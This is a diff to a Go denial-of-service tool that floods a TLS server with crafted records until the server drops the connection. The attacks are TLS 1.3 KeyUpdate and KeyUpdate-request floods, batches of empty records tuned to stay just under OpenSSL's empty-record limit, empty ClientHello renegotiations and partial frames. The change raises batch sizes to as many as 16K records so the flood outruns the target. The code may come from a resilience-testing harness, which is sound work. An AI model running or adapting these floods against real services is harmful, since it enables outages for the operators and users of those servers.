@@ -8,8 +8,10 @@ import (
 )
 
 const (
-	// recordsAtOnce is how many records are made before they are sent.
-	recordsAtOnce = 256
+	// recordsAtOnce is how many records are made before they are sent. A KeyUpdate takes much longer to make than to
+	// send, and a reader that keeps up with the making ends its turn.
+	recordsAtOnce = 4 << 10
+	updatesAtOnce = 16 << 10
 	// emptyInRow is one less than what OpenSSL takes without data between them (MAX_EMPTY_RECORDS).
 	emptyInRow = 31
 	// swallowed is what a push announces that is beyond telemetry.max_bytes and within max_frame_bytes.
@@ -17,14 +19,14 @@ const (
 )
 
 // repeat sends what add makes until the target ends the connection or the attack is over.
-func (a *attacker) repeat(connection net.Conn, version uint16, add func(r *records) error) error {
+func (a *attacker) repeat(connection net.Conn, version uint16, atOnce int, add func(r *records) error) error {
 	r, err := handshaken(connection, version)
 	if err != nil {
 		return err
 	}
 	go drain(connection)
 	for {
-		for i := 0; i < recordsAtOnce; i++ {
+		for i := 0; i < atOnce; i++ {
 			if err := add(r); err != nil {
 				return err
 			}
@@ -36,11 +38,11 @@ func (a *attacker) repeat(connection net.Conn, version uint16, add func(r *recor
 }
 
 func (a *attacker) keyUpdates(connection net.Conn, _ int) error {
-	return a.repeat(connection, tls.VersionTLS13, func(r *records) error { return r.update(false) })
+	return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(false) })
 }
 
 func (a *attacker) keyUpdateRequests(connection net.Conn, _ int) error {
-	return a.repeat(connection, tls.VersionTLS13, func(r *records) error { return r.update(true) })
+	return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(true) })
 }
 
 func (a *attacker) emptyRecords(connection net.Conn, _ int) error {
@@ -54,7 +56,7 @@ func (a *attacker) emptyRecords12(connection net.Conn, _ int) error {
 // empty sends a byte of a frame that will not be whole behind so many records that OpenSSL would else refuse more.
 func (a *attacker) empty(connection net.Conn, version uint16) error {
 	next := splitter(swallowedPush())
-	return a.repeat(connection, version, func(r *records) error {
+	return a.repeat(connection, version, recordsAtOnce/(emptyInRow+1), func(r *records) error {
 		for i := 0; i < emptyInRow; i++ {
 			r.add(recordApplication, nil)
 		}
@@ -65,7 +67,7 @@ func (a *attacker) empty(connection net.Conn, version uint16) error {
 
 // renegotiations sends an empty ClientHello; OpenSSL looks at its type only, and answers with an alert.
 func (a *attacker) renegotiations(connection net.Conn, _ int) error {
-	return a.repeat(connection, tls.VersionTLS12, func(r *records) error {
+	return a.repeat(connection, tls.VersionTLS12, recordsAtOnce, func(r *records) error {
 		r.add(recordHandshake, []byte{1, 0, 0, 0})
 		return nil
 	})
@@ -73,7 +75,7 @@ func (a *attacker) renegotiations(connection net.Conn, _ int) error {
 
 func (a *attacker) swallowedRecords(connection net.Conn, _ int) error {
 	next := splitter(swallowedPush())
-	return a.repeat(connection, tls.VersionTLS13, func(r *records) error {
+	return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
 		r.add(recordApplication, next(3))
 		return nil
 	})
@@ -85,7 +87,7 @@ func (a *attacker) requestRecords(connection net.Conn, _ int) error {
 		return err
 	}
 	next := splitter(request, request)
-	return a.repeat(connection, tls.VersionTLS13, func(r *records) error {
+	return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
 		r.add(recordApplication, next(1))
 		return nil
 	})
